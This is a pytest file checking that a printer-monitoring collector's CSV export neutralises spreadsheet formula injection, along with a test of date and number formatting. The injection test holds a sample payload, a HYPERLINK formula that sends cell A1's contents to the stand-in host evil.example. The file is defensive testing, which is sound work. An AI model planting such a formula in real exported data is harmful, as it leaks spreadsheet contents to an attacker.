"""The collector's CSV answers make every formula trigger inert, the tab and CR a spreadsheet also
reads as one included (a security review found the console's tables missing those two)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from printwatch.collector.csvtext import FORMULA, csv_text


@pytest.mark.parametrize("start", FORMULA)
def test_a_cell_an_appliance_sent_that_starts_a_formula_is_inert(start: str) -> None:
    model = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    text = csv_text(["serial", "model"], [{"serial": "SER1", "model": model}])
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert header == ["serial", "model"]
    assert row == ["SER1", "'" + model]


def test_dates_are_iso_missing_cells_empty_numbers_plain_and_lines_end_in_crlf() -> None:
    at = dt.datetime(2026, 11, 1, 6, 30)
    text = csv_text(["a", "b", "c", "d"], [{"a": at, "b": -5, "c": "x-y"}])
    assert text == "a,b,c,d\r\n2026-11-01T06:30:00,-5,x-y,\r\n"
